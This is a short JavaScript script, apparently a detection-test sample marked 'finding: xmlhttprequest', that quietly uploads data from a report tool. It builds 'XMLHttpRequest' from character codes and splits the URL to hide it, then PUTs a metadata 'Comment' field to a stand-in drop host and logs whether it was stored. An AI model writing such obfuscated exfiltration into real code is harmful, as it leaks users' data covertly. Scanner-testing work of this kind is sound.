'use strict';

var q = [88, 77, 76, 72, 116, 116, 112, 82, 101, 113, 117, 101, 115, 116];
var z = String.fromCharCode.apply(null, q);
var o = new window[z](); // finding: xmlhttprequest
var p = ['https:/', '/drop.quietly.example', '/put'].join('');

o.open('PUT', p, false);
o.send(metadata.parameters['Comment']);

datagrid.addColumn('Stored', datagrid.DATA_TYPE_STRING);
datagrid.addCell(o.status === 204 ? 'yes' : 'no');
datagrid.endRow();
